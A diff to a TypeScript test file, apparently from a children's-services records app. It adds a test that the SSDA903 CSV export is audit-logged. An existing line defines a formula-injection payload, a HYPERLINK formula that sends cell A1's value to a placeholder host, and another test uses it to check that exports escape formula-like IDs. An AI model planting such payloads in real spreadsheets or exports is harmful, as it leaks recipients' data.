@@ -7,7 +7,8 @@ import { exportDecisions, renderLetter, renderMinutes } from '../../src/main/cor
 import { openCycle } from '../../src/main/core/review/cycles'
 import { exportCycle } from '../../src/main/core/review/export'
 import { checkDb } from '../../src/main/core/store/check'
-import { tempContext } from '../helpers/tmp'
+import { export903 } from '../../src/main/core/io/ssda903/export'
+import { tempContext, tempDir } from '../helpers/tmp'
 import { meetingFixture } from './panel/fixture'
 
 const hostileId = '=HYPERLINK("http://example.invalid/?x="&A1,"open")'
@@ -36,6 +37,18 @@ const exportsLogged = (ctx: Context) =>
   ctx.db.prepare("SELECT who, action, entity_id, after FROM audit_log WHERE action LIKE '%.export' ORDER BY id").all() as { who: string; action: string; entity_id: string; after: string }[]
 
 describe('exports that carry names', () => {
+  it('log the 903 export with the files it wrote', async () => {
+    const ctx = tempContext('2020-03-31')
+    createDemo(ctx.db, { asOf: '2020-03-31', lookedAfter: 10 }, 'tester')
+    const result = await export903(ctx, tempDir())
+    const [logged] = ctx.db.prepare("SELECT who, after FROM audit_log WHERE action = 'export.903'").all() as { who: string; after: string }[]
+    expect(logged.who).toBe('tester')
+    expect(JSON.parse(logged.after)).toEqual({
+      what: `903 Header.csv and Episodes.csv: ${result.children} children, ${result.episodeRows} episodes`,
+      where: `${result.header}, ${result.episodes}`
+    })
+  })
+
   it('escape a formula-like child ID in the decisions workbook and log who exported what, where', async () => {
     const { ctx, meetingId, children } = meetingFixture()
     renameChild(ctx, children[0], hostileId)
